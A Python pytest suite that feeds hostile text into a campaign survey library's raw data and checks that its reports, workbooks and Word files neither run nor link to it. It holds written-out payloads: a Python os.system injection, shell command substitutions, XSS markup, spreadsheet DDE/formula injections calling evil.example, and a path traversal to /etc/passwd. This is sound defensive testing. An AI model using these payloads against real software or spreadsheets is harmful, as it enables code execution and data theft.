"""A campaign whose every typed text tries to be code, taken from raw files to pages and Word."""

import csv
import os
import re
import stat
import zipfile
from collections.abc import Iterator
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pandas as pd
import pytest
from openpyxl import load_workbook

from campaign_lib.base.quarters import Quarter
from campaign_lib.cli import main
from campaign_lib.pipeline.build import build
from campaign_lib.pipeline.reports.batch import Wish, make_reports
from campaign_lib.store.processed import Processed
from campaign_sample import write_sample

#: A file that appears where any of these is run.
TRAP = "sprung"
PYTHON = f"\"+__import__('os').system('touch {TRAP}')+\""
SHELL = f"$(touch {TRAP});`touch {TRAP}`"
MARKUP = "</title></script></style><script>alert(1)</script><img src=x onerror=alert(2)>"
#: Signs that command a terminal, or that XML cannot hold.
SIGNS = "\x01\x1b[31m\x7f\ufffe\uffff"
#: By table and column: what somebody typed.
TYPED = {
    "villages": {"name": MARKUP, "aliases": '=HYPERLINK("http://evil.example","x")'},
    "households": {"head_name": f"=cmd|' /C touch {TRAP}'!A0 {MARKUP}"},
    "poverty_status": {"reason": "{{ 7 * 7 }} {% raw %}"},
    "survey": {"enumerator": "@SUM(1+1)*cmd|' /C calc'!A0", "loan_source": MARKUP},
    "activities": {"kind": r"$\frac{1}{0}$ ${HOME}"},
    "models": {
        "name": "javascript:alert(1)//" + MARKUP + SIGNS,
        "field": "[x](javascript:alert(1)) {{ 7 * 7 }}",
        "copied_from": MARKUP,
        "ended_because": f"=cmd|' /C touch {TRAP}'!A0",
    },
    "funding": {"purpose": "../../../../etc/passwd", "agency": MARKUP, "model": SHELL},
    "extra_tasks": {"given_by": MARKUP, "owner": SHELL, "text": "{{ 7 * 7 }}" + MARKUP + SIGNS},
    "agency_plans": {"number": "=1+1", "note": MARKUP + SIGNS},
    "support": {"agency": MARKUP, "note": SHELL},
    "task_progress": {"evidence": SHELL},
    "remarks": {"text": SHELL + MARKUP + SIGNS},
    "inspections": {"inspector": "-2+3+cmd|' /C calc'!A0"},
}
#: What the last row of a table has that cannot be read, so that it goes back to the village.
UNREADABLE = {
    "households": {"members": '=HYPERLINK("http://evil.example/?"&A1,"x")', "village": "+1+cmd"},
    "poverty_status": {"status": f"@SUM(1)|' /C touch {TRAP}'!A0"},
    "survey": {"house": MARKUP + SIGNS, "income": "=1+1"},
    "activities": {"held_on": '=WEBSERVICE("http://evil.example")'},
    "funding": {"planned": "-2+3+cmd|' /C calc'!A0"},
}
#: Columns that offices keep and the codebook does not know, in every file, with the marks by which
#: their cells are found again.
PRIVATE = {"Số CCCD": "0620990{:05}", "Điện thoại": "09{:02}77665544"}
PRIVATE_MARK = re.compile(r"0620990\d{5}|\d{2}77665544")
#: What stands in these texts and in nothing that the library writes by itself.
MARKS = (TRAP, "evil.example", "calc", "alert(", "cmd", "WEBSERVICE", "1+1", "SUM(1")
#: A village's code becomes a file name, a notebook's parameter, a link and a cell.
CODE = PYTHON
#: What the library itself puts into a page, and nothing that could load or run.
_ATTRIBUTES_THAT_LOAD = {"src", "href", "xlink:href", "action", "formaction", "data", "srcset"}
#: Elements of a workbook whose text is worked out, and attributes that lead somewhere.
FORMULAS = {"f", "formula", "formula1", "formula2", "definedName"}
LINKS = {
    "location",
    "Target",
    "display",
    "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id",
}
_LEADS_AWAY = re.compile(r"\s*([a-z][a-z0-9+.-]*:|//|\\)", re.I)


def poison(raw: Path) -> None:
    """Put the texts into every row, and the code in the place of one village's."""
    for path in sorted(raw.rglob("*.csv")):
        table = "survey" if path.parent.name == "survey" else path.stem
        with path.open(encoding="utf-8-sig", newline="") as file:
            reader = csv.DictReader(file)
            # A small campaign has no household that somebody helps.
            rows = list(reader) or [dict.fromkeys(reader.fieldnames or (), "")]
        for at, row in enumerate(rows):
            row |= {name: text.format(at) for name, text in PRIVATE.items()}
            row |= {name: text for name, text in TYPED.get(table, {}).items() if name in row}
            if row.get("village") == "T2":
                row["village"] = CODE
        rows[-1] |= UNREADABLE.get(table, {})
        if table == "villages":  # a name stands for one village only
            rows[0]["name"] += " 1"
            rows[0]["aliases"] = ""
        with path.open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)


@pytest.fixture(scope="module")
def workplace(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Build and report a poisoned campaign in both editions, in a folder of its own."""
    folder = tmp_path_factory.mktemp("poisoned")
    write_sample(folder / "data", 2, 40, (Quarter(2024, 3),), 5)
    poison(folder / "data" / "raw")
    here, mask = Path.cwd(), os.umask(0o022)
    os.chdir(folder)
    try:
        build(folder / "data", date(2025, 2, 1))
        processed = Processed(folder / "data" / "processed")
        for edition in ("internal", "public"):
            wish = Wish(edition=edition, word=True, jobs=1)  # type: ignore[arg-type]
            assert make_reports(processed, folder / "reports", wish) == 0
        assert main(["--data", "data", "--today", "2025-02-01", "check"]) == 1
        assert main(["--data", "data", "form", "forms", "--quarter", "2024Q3"]) == 0
        yield folder
    finally:
        os.chdir(here)
        os.umask(mask)


class Page(HTMLParser):
    """What a page would load or run."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts, self.wrong, self.text = 0, [], []  # type: ignore[var-annotated]

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        kind = dict(attributes).get("type")
        self.scripts += tag == "script" and kind != "application/json"
        if tag in {"iframe", "object", "embed", "base", "link"}:
            self.wrong.append(tag)
        for name, value in attributes:
            loads = name in _ATTRIBUTES_THAT_LOAD and _LEADS_AWAY.match(value or "")
            if name.startswith("on") or (loads and not (value or "").startswith("data:image/")):
                self.wrong.append(f"{tag} {name}={value}")

    def handle_data(self, text: str) -> None:
        self.text.append(text)


def pages(workplace: Path) -> list[Path]:
    return sorted((workplace / "reports").rglob("*.html"))


def workbooks(workplace: Path) -> list[Path]:
    return sorted(workplace.rglob("*.xlsx"))


@pytest.mark.slow
def test_no_text_is_run_and_nothing_is_written_elsewhere(workplace: Path) -> None:
    assert {path.name for path in workplace.iterdir()} == {"data", "forms", "reports"}
    assert not list(workplace.rglob(f"*{TRAP}")), "a text was run"
    names = [path.name for path in (workplace / "reports" / "2024Q3").iterdir()]
    names += [path.name for path in (workplace / "forms").rglob("*")]
    assert all(re.fullmatch(r"[\w.-]+", name) for name in names), names


def texts_of(path: Path) -> Iterator[str]:
    """Give all that stands in a file, unpacked."""
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as packed:
            yield from (packed.read(name).decode("latin-1") for name in packed.namelist())
    elif path.suffix == ".parquet":
        yield pd.read_parquet(path).astype("str").to_csv()
    else:
        yield path.read_bytes().decode("latin-1")


@pytest.mark.slow
def test_no_identity_or_telephone_number_is_written(workplace: Path) -> None:
    raw = workplace / "data" / "raw"
    files = [path for path in workplace.rglob("*") if path.is_file()]
    written = [path for path in files if raw not in path.parents]
    assert {".xlsx", ".docx", ".html", ".parquet", ".csv"} <= {path.suffix for path in written}
    with_numbers = {p for p in files if any(map(PRIVATE_MARK.search, texts_of(p)))}
    assert with_numbers == set(raw.rglob("*.csv"))


@pytest.mark.slow
def test_no_text_becomes_a_part_of_a_page(workplace: Path) -> None:
    found = pages(workplace)
    assert len(found) >= 10
    seen = ""
    for path in found:
        page, text = Page(), path.read_text(encoding="utf-8")
        page.feed(text)
        assert page.wrong == [], path
        # Their own, which fold sections and filter a list.
        has_script = path.name == "index.html" or '<nav class="contents"' in text
        assert page.scripts == has_script, path
        seen += "".join(page.text)
    assert "<script>alert(1)</script>" in seen, "the texts are shown, as texts"
    assert r"$\frac{1}{0}$" in seen
    assert "{{ 7 * 7 }}" in seen


@pytest.mark.slow
def test_no_cell_is_a_formula(workplace: Path) -> None:
    for path in sorted((workplace / "data" / "processed").glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        wrong = [c for c in cells if re.match(r"[=@\t\r]|[+-](?!\d+([.,]\d+)*$)", c)]
        assert wrong == [], path
        assert cells


@pytest.mark.slow
def test_texts_in_workbooks_are_texts_alone(workplace: Path) -> None:
    """Their own formulas, choices, names and links have no word of them but in quotation marks."""
    names = {path.name for path in workbooks(workplace)}
    assert "problems.xlsx" in names and len(names) >= 4, names
    for path in workbooks(workplace):
        with zipfile.ZipFile(path) as packed:
            parts = {name: packed.read(name) for name in packed.namelist()}
        for name, content in parts.items():
            assert b'TargetMode="External"' not in content, (path, name)
            tree = ElementTree.fromstring(content)
            for element in tree.iter():
                if element.tag.rpartition("}")[2] in FORMULAS:
                    said = re.sub('"(?:[^"]|"")*"', "", element.text or "")
                    assert not [mark for mark in MARKS if mark in said], (path, name, said)
                assert not LINKS & element.attrib.keys() or not [
                    mark for mark in MARKS if mark in str(element.attrib)
                ], (path, name, element.attrib)


@pytest.mark.slow
def test_what_goes_back_to_the_village_shows_the_texts(workplace: Path) -> None:
    book = load_workbook(workplace / "data" / "processed" / "problems.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
    shown = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for typed in ("=1+1", "+1+cmd", UNREADABLE["households"]["members"]):
        assert shown[typed].data_type == "s"
        assert shown[typed].quotePrefix
    assert any(MARKUP in text for text in shown)
    assert not [cell for cell in cells if cell.data_type == "f"]


@pytest.mark.slow
def test_paper_forms_show_texts_as_texts(workplace: Path) -> None:
    papers = sorted((workplace / "forms").rglob("*.html"))
    assert len(papers) == 2
    for path in papers:
        page = Page()
        page.feed(path.read_text(encoding="utf-8"))
        assert (page.wrong, page.scripts) == ([], 0), path
        assert "<script>alert(1)</script>" in "".join(page.text)


@pytest.mark.slow
def test_word_has_texts_and_no_fields_of_theirs(workplace: Path) -> None:
    (letter,) = (workplace / "reports" / "2024Q3").glob("*.docx")
    with zipfile.ZipFile(letter) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    for name, content in parts.items():
        if name.endswith((".xml", ".rels")):
            ElementTree.fromstring(content)
            assert b'TargetMode="External"' not in content, name
    text = "".join(ElementTree.fromstring(parts["word/document.xml"]).itertext())
    assert "<script>alert(1)</script>" in text  # as the commune wrote it


@pytest.mark.slow
@pytest.mark.skipif(os.name == "nt", reason="Windows has no such modes")
def test_others_on_the_machine_read_the_public_edition_only(workplace: Path) -> None:
    files = [path for path in workplace.rglob("*") if path.is_file() and path.parent.name != "raw"]
    open_to_all = {path for path in files if stat.S_IMODE(path.stat().st_mode) & 0o007}
    public = set((workplace / "reports" / "public").rglob("*.html"))
    public |= set((workplace / "reports" / "public").rglob("*.docx"))
    assert len(public) >= 4
    assert {path for path in open_to_all if path.name != ".lock"} == public
